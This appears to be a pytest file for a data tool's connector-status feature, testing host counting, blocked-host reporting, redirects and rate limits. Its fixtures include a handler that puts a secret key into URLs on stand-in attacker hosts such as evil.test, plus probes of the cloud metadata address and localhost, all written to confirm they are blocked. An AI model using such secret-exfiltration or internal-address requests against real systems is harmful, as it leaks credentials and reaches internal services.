"""SHOW CONNECTOR … STATUS tells which hosts were contacted, and what APIs have asked for."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

import moltler
from moltler.errors import ConnectorRateLimitError, MoltlerError
from support.command import Moltler
from support.http import HttpServer, Response, sequence

DEFINITION = """
CREATE CONNECTOR TYPE 'shop' CONFIG_SCHEMA {{"api_url": {{"type": "string", "required": true}},
    "key": {{"type": "string", "secret": true}}}}
ALLOWED_HOSTS ['*.shop.test'];
CREATE CONNECTOR ENTITY 'shop.items' FIELDS {{"id": {{"type": "integer", "primary_key": true}}}}
QUERY_HANDLER '
async function query(config) {{
    const answer = await fetch(config.api_url + `/items`);
    if (answer.status === 429) throw new ConnectorRateLimitError(`slow down`);
    return answer.json();
}}
';
CREATE CONNECTOR ACTION 'shop.spy' PARAMETERS {{"url": {{"type": "string"}}}}
HANDLER 'async function execute(config, p) {{ await fetch(p.url.replace(`KEY`, config.key)); }}';
REGISTER CONNECTOR TYPE 'shop';
CREATE CONNECTOR s TYPE 'shop'
CONFIG {{"api_url": "{url}", "key": "{{{{secrets.key}}}}"}};
"""
SECRET = "a-host-label-that-is-secret"


@pytest.fixture
def shop(session: moltler.Session, http_server: HttpServer) -> moltler.Session:
    session.secrets.put("key", SECRET)
    session.execute(DEFINITION.format(url=http_server.url))
    return session


def read(session: moltler.Session) -> None:
    list(session.execute("SELECT id FROM s.items").rows())


def status(session: moltler.Session, start: str = "host ") -> dict[str, str]:
    rows = session.execute("SHOW CONNECTOR s STATUS").dicts()
    return {
        str(r["property"]).removeprefix(start): str(r["value"])
        for r in rows
        if str(r["property"]).startswith(start)
    }


def test_hosts_are_counted_over_sessions_and_programs(
    shop: moltler.Session, http_server: HttpServer, home: Path, moltler_command: Moltler
) -> None:
    http_server.route("GET", "/items", [{"id": 1}])
    host = http_server.url.removeprefix("http://")
    assert status(shop) == {}
    read(shop)
    read(shop)
    assert status(shop)[host].startswith("2 request(s), last 20")
    moltler_command("query", "SELECT id FROM s.items").ok()
    with moltler.connect(home) as later:
        assert status(later)[host].startswith("3 request(s)")


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://evil.test/take?it=KEY", "evil.test"),
        ("https://KEY.evil.test/", "[secret key].evil.test"),
        ("http://a.shop.test/?key=KEY", "a.shop.test"),
        ("http://169.254.169.254/latest", "169.254.169.254"),
        ("http://127.0.0.1:1/", "127.0.0.1:1"),
    ],
)
def test_refused_hosts_are_counted_as_blocked(shop: moltler.Session, url: str, host: str) -> None:
    with pytest.raises(MoltlerError) as caught:
        shop.action("s.spy", {"url": url})
    assert caught.value.code == "API005"
    assert status(shop)[host].startswith("1 blocked, last 20")
    assert SECRET not in str(status(shop, ""))


def test_a_redirect_names_both_hosts(shop: moltler.Session, http_server: HttpServer) -> None:
    http_server.route("GET", "/items", Response(302, headers={"Location": "https://evil.test/"}))
    with pytest.raises(MoltlerError) as caught:
        read(shop)
    found = status(shop)
    assert caught.value.code == "API005"
    assert found["evil.test"].startswith("1 blocked")
    assert found[http_server.url.removeprefix("http://")].startswith("1 request(s)")


def test_a_handler_that_makes_up_hosts_fills_nothing(shop: moltler.Session, home: Path) -> None:
    shop.execute("""
        CREATE OR REPLACE CONNECTOR ACTION 'shop.spray' HANDLER '
        async function execute() {
            const hosts = Array.from({length: 400}, (_, i) => `https://h${i}.evil.test/`);
            await Promise.allSettled(hosts.map((host) => fetch(host)));
        }';
        REGISTER CONNECTOR TYPE 'shop';
    """)
    shop.action("s.spray")
    found = status(shop)
    assert len(found) == 201
    assert found["(others)"].startswith("200 blocked")


def test_what_a_dropped_connector_did_is_not_the_next_ones(
    shop: moltler.Session, http_server: HttpServer
) -> None:
    http_server.route("GET", "/items", [])
    read(shop)
    shop.execute("DROP CONNECTOR s")
    shop.execute(DEFINITION.format(url=http_server.url).rpartition("REGISTER")[2].partition(";")[2])
    assert status(shop) == {}


def test_a_pause_is_shown_until_a_test_asks_the_api_again(
    shop: moltler.Session, http_server: HttpServer
) -> None:
    busy = Response(429, {}, {"Retry-After": "3000"})
    http_server.route("GET", "/items", sequence(busy, [{"id": 1}]))
    for _ in range(2):
        with pytest.raises(ConnectorRateLimitError) as caught:
            read(shop)
        assert caught.value.retry_after == pytest.approx(3000, abs=60)
    assert len(http_server.requests) == 1
    limit = status(shop, "limit of ")[http_server.url.removeprefix("http://")]
    assert limit.startswith("the API takes no requests before 20")
    shop.execute("TEST CONNECTOR s")
    assert status(shop, "limit of ") == {}
    read(shop)


def test_a_connector_without_its_secret_has_a_status(shop: moltler.Session) -> None:
    shop.secrets.remove("key")
    assert status(shop, "")["rate_limit"] == "None"


def test_queries_and_actions_of_several_programs_share_a_rate(
    shop: moltler.Session, http_server: HttpServer, moltler_command: Moltler
) -> None:
    http_server.route("GET", "/*", [{"id": 1}])
    shop.execute("""ALTER CONNECTOR s SET OPTIONS {"rate_limit": "2/h", "rate_limit_burst": 2}""")
    read(shop)
    moltler_command("query", f"EXEC s.spy('{http_server.url}/spied')").ok()
    turn = status(shop, "limit of ")[http_server.url.removeprefix("http://")]
    assert turn.startswith("the next request may leave at 20")
    assert http_server.paths == ["GET /items", "GET /spied"]


def test_a_refused_query_is_made_again_when_the_api_wants_it(
    shop: moltler.Session, http_server: HttpServer
) -> None:
    busy = Response(429, {}, {"Retry-After": "1"})
    http_server.route("GET", "/items", sequence(busy, busy, [{"id": 1}]))
    shop.execute('ALTER CONNECTOR s SET OPTIONS {"retry_count": 2}')
    started = time.monotonic()
    assert list(shop.execute("SELECT id FROM s.items").rows()) == [(1,)]
    assert len(http_server.requests) == 3
    assert time.monotonic() - started >= 1.8
